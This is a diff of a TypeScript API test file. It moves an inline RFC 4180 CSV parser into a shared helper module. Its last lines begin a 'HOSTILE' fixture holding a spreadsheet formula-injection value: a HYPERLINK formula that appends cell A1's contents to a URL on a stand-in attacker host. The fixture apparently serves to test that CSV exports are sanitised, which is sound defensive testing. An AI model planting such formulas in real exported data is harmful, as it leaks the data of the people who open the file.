@@ -8,38 +8,8 @@ import { AccountError } from '../../../src/accounts/index.js';
 import { refusedLocation } from '../../../src/api/oidc-routes.js';
 import { basicAuthorization } from '../../../src/auth/index.js';
 import { OidcLoginError } from '../../../src/auth/oidc/index.js';
+import { parseCsv } from '../../helpers/csv.js';
 import { type Harness, PASSWORD, startHarness } from './api-harness.js';
-
-/** RFC 4180 records: quoted fields with doubled quotes and embedded CR/LF, CRLF between records. */
-function parseCsv(text: string): string[][] {
-  const records: string[][] = [];
-  let record: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      record.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      record.push(field);
-      records.push(record);
-      record = [];
-      field = '';
-      i++;
-    } else throw new Error(`unquoted character ${JSON.stringify(c)} at ${i}`);
-  }
-  expect(field).toBe('');
-  expect(record).toEqual([]);
-  return records;
-}
 
 const HOSTILE = {
   actor: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
